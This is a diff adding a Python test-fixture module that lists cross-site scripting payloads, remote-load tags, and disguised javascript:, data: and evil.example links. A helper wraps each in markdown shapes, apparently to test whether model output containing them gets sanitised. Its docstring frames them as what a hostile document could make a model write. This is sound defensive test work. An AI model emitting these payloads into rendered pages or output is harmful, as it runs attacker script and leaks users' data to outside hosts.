@@ -1,0 +1,88 @@
+"""What a hostile document could make a model write: script, remote loads, disguised links, in their usual shapes."""
+
+SCRIPTS = [
+    "<script>hit()</script>",
+    "<ScRiPt>hit()</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<script\x20type=module>hit()</script>",
+    "<scr<script>ipt>hit()</scr</script>ipt>",
+    "<<script>hit()//<</script>",
+    "<script/x>hit()</script>",
+    "<svg><script>hit()</script></svg>",
+    "<svg><script href=//evil.example/x.js /></svg>",
+    "<math><mtext></mtext><script>hit()</script></math>",
+    "</p><script>hit()</script>",
+    "<template><script>hit()</script></template>",
+    "<noscript><p title='</noscript><script>hit()</script>'>",
+    "<!--><script>hit()</script>-->",
+    "<![CDATA[<script>hit()</script>]]>",
+]
+HANDLERS = [
+    "<img src=x onerror=hit()>",
+    "<img/src=x/onerror=hit()>",
+    "<img src=x onerror\n=\nhit()>",
+    '<img src="x`" onerror="hit()"`>',
+    "<svg onload=hit()>",
+    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
+    "<svg><set attributeName=onmouseover to=hit()>",
+    "<body onload=hit()>",
+    "<details open ontoggle=hit()>x</details>",
+    "<video autoplay onloadstart=hit()><source src=x></video>",
+    "<audio src=x onerror=hit()>",
+    "<input autofocus onfocus=hit()>",
+    "<marquee onstart=hit()>x</marquee>",
+    "<a href=x onclick=hit() onmouseover=hit()>x</a>",
+    "<p style=animation-name:x onanimationstart=hit()>x</p>",
+    "<select autofocus onfocus=hit()>",
+    "<xss onpointerrawupdate=hit() style=display:block>x</xss>",
+]
+LOADS = [
+    "<img src=https://evil.example/pixel.png>",
+    "<img srcset='https://evil.example/pixel.png 1x'>",
+    "![x](https://evil.example/pixel.png)",
+    "![x](//evil.example/pixel.png)",
+    "![x][r]\n\n[r]: https://evil.example/pixel.png",
+    "[![x](https://evil.example/p.png)](https://evil.example)",
+    "<iframe src=https://evil.example></iframe>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+    "<object data=https://evil.example></object>",
+    "<embed src=https://evil.example>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<link rel=prefetch href=https://evil.example>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<p style='background:url(https://evil.example/x)'>x</p>",
+    "<table background=https://evil.example/x><tr><td>x</table>",
+    "<video poster=https://evil.example/x></video>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<form action=https://evil.example><button>x</button></form>",
+    "<svg><image href=https://evil.example/x /></svg>",
+    "<svg><use href=https://evil.example/x#y /></svg>",
+    "<input type=image src=https://evil.example/x>",
+]
+LINKS = [
+    "[x](javascript:hit())",
+    "[x](JaVaScRiPt:hit())",
+    "[x](java\tscript:hit())",
+    "[x](&#106;avascript:hit())",
+    "[x](javascript&colon;hit())",
+    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:hit())",
+    "<javascript:hit()>",
+    "<a href='javascript:hit()'>x</a>",
+    "<a href=' &#14; javascript:hit()'>x</a>",
+    "[x](https://evil.example/)",
+    "[x](//evil.example/)",
+    "<https://evil.example/>",
+    "[1]: https://evil.example\n\n[1]",
+    "[x](mailto:evil@evil.example)",
+    '[x](https://amt.example "onmouseover=hit()")',
+    "[<img src=x onerror=hit()>](https://amt.example)",
+    "&lt;script&gt;hit()&lt;/script&gt;",
+]
+PAYLOADS = [*SCRIPTS, *HANDLERS, *LOADS, *LINKS]
+
+
+def in_all_shapes(payload: str) -> list[str]:
+    """Bare, in a list, in a table, quoted, in a heading."""
+    return [payload, f"- {payload}", f"| a |\n|---|\n| {payload} |", f"> **{payload}**", f"### {payload}\n\nText."]
